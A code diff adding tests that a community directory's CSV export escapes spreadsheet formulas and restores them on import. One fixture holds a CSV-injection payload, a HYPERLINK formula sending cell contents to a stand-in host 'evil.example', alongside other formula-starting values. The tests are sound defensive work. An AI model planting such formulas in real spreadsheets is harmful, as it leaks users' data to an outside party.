@@ -4,6 +4,7 @@ nothing changes that they did not change, whatever the script, and a bad file wr
 from __future__ import annotations
 
 import copy
+import csv
 import subprocess
 import sys
 import tempfile
@@ -14,7 +15,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from knowledge.entry import BIELEFELD_DISTRICTS, LANGUAGES, TOPICS, WEEKDAYS
-from knowledge.spreadsheet import COLUMNS, export_csv, import_csv
+from knowledge.spreadsheet import COLUMNS, export_csv, guard_cell, import_csv, unguard_cell
 from knowledge.validation import InvalidEntries, load_entries
 from tests.conftest import PROJECT_ROOT
 from tests.knowledge.test_entry_validation import VALID, write_entry
@@ -26,6 +27,7 @@ DARI = "پچژگکیۀ" + ARABIC
 UKRAINIAN = "абвгґдеєжзиіїйклмнопрстуфхцчшщьюяАБВГҐДЕЄІЇЮЯʼ"
 LATIN = "abcdefghijklmnopqrstuvwxyzäöüßÄÖÜ"
 SPREADSHEET_TROUBLE = ' ,;"\'§%-=+()0123456789'  # separators, quotes and formula signs
+FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")  # what Excel and LibreOffice may run (OWASP: CSV injection)
 
 
 def text(alphabet: str, max_size: int = 60) -> st.SearchStrategy[str]:
@@ -198,3 +200,32 @@ def test_cli_round_trip_keeps_arabic_dari_and_ukrainian_text(tmp_path):
     sheet.write_text("id,status\nx,draft\n", encoding="utf-8")
     result = cli("import", "--csv", str(sheet))
     assert result.returncode == 1 and "missing columns" in result.stderr and "nothing was written" in result.stderr
+
+
+def formula_entry() -> dict:
+    data = copy.deepcopy(VALID)
+    data["organisation"] = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick hier")'
+    data["translations"]["de"].update(title="@SUM(1)", summary="+1+1", offers=["-2+3", "Kurse A1 bis B1"],
+                                      cost="'=1+1 ist schon ein Text")
+    return data
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_guarded_and_import_gives_them_back(tmp_path):
+    entries, sheet = exported(tmp_path, formula_entry())
+    with sheet.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_SIGNS)] == []
+    assert {"'@SUM(1)", "'+1+1", "'-2+3\nKurse A1 bis B1", "''=1+1 ist schon ein Text", "'+49 521 000000"} <= set(cells)
+    target = tmp_path / "imported"
+    import_csv(sheet, target)
+    assert load_entries(target) == load_entries(entries)
+    (entry,) = load_entries(target)
+    assert entry.organisation.startswith("=HYPERLINK(") and entry.contact.phone == "+49 521 000000"
+
+
+@given(st.text(st.sampled_from(FORMULA_SIGNS + ("'", " ", "x")) | st.characters()))
+def test_the_cell_guard_gives_back_any_text_and_leaves_no_cell_starting_a_formula(value):
+    cell = guard_cell(value)
+    assert unguard_cell(cell) == value
+    assert not cell.startswith(FORMULA_SIGNS)
+    assert cell in (value, f"'{value}")
